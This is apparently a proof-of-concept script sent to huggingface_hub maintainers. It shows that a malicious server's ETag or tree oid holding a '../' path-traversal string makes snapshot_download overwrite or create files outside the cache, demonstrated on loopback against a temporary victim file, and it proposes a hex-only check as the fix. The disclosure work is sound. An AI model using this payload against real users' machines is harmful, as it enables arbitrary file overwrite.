"""For the owners of huggingface_hub: a server's ETag is a path for the client, which overwrites any file of the user.

    python docs/upstream/huggingface_hub_etag.py [header|tree]

Loopback only, in a temporary folder. Seen with huggingface_hub 2.4.0, hf-xet 1.8, Python 3.11, Linux:

* `file_download._normalize_etag` strips quotes, and `os.path.join(storage_folder, "blobs", etag)` is where the body
  goes (`_hf_hub_download_to_cache_dir`). With `force_download=True`, or where nothing is there yet, what is at that
  path is replaced by the body; the lock `<etag>.lock` and its folders are made below any path likewise.
* The same value comes from `lfs.oid` of `/api/models/.../tree` where a file has a `xetHash` (`_tree_cache.py`). Here
  only the lock is made beside the victim: the body would come from a server of Xet, which this script has not.
* `X-Repo-Commit` of an answer 404 is a folder below `.no_exist/` in the same way, with `touch` (read, not shown here).

It takes a server under somebody else's control: a mirror in `HF_ENDPOINT`, or whoever is on the way of an http one.
A mend is to take an ETag, an oid and a commit only if they are hex digits (`REGEX_SHA256`, `REGEX_COMMIT_HASH`).
"""

from __future__ import annotations

import json
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

COMMIT = "a" * 40
BODY = b"overwritten\n"


class Server(ThreadingHTTPServer):
    """A Hub with one file, whose ETag is the path of a victim."""

    etag = ""
    in_tree = False


class Handler(BaseHTTPRequestHandler):
    """Answers for that one file, whatever is asked."""

    server: Server

    def do_GET(self) -> None:
        """Answer a GET or HEAD."""
        headers = {"X-Repo-Commit": COMMIT, "ETag": f'"{self.server.etag}"'}
        body = BODY
        if "/tree/" in self.path:
            lfs = {"oid": self.server.etag, "size": len(BODY), "pointerSize": 1}
            more = {"lfs": lfs, "xetHash": "b" * 64} if self.server.in_tree else {}
            body = json.dumps([{"type": "file", "path": "f", "oid": COMMIT, "size": len(BODY), **more}]).encode()
            headers = {"Content-Type": "application/json"}
        self.send_response(200)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    do_HEAD = do_GET  # noqa: N815 - the library's name

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def main(kind: str = "header") -> None:
    """Serve, fetch twice (the second time with `force_download`), and say what became of a file elsewhere."""
    from huggingface_hub import snapshot_download

    with tempfile.TemporaryDirectory() as folder, Server(("127.0.0.1", 0), Handler) as server:
        victim = Path(folder, "home", "victim")
        victim.parent.mkdir()
        victim.write_text("precious\n")
        server.etag = f"{'../' * 30}{str(victim)[1:]}"
        server.in_tree = kind == "tree"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        endpoint = f"http://127.0.0.1:{server.server_address[1]}"
        for force in (False, True):
            try:
                where = {"endpoint": endpoint, "cache_dir": Path(folder, "cache"), "token": False}
                snapshot_download("a/b", revision=COMMIT, force_download=force, **where)
            except (OSError, RuntimeError, ValueError) as error:
                print(f"{type(error).__name__}: {error}")
        server.shutdown()
        print(f"{victim.name} is {victim.read_text()!r}; beside it: {sorted(p.name for p in victim.parent.iterdir())}")


if __name__ == "__main__":
    main(*sys.argv[1:])
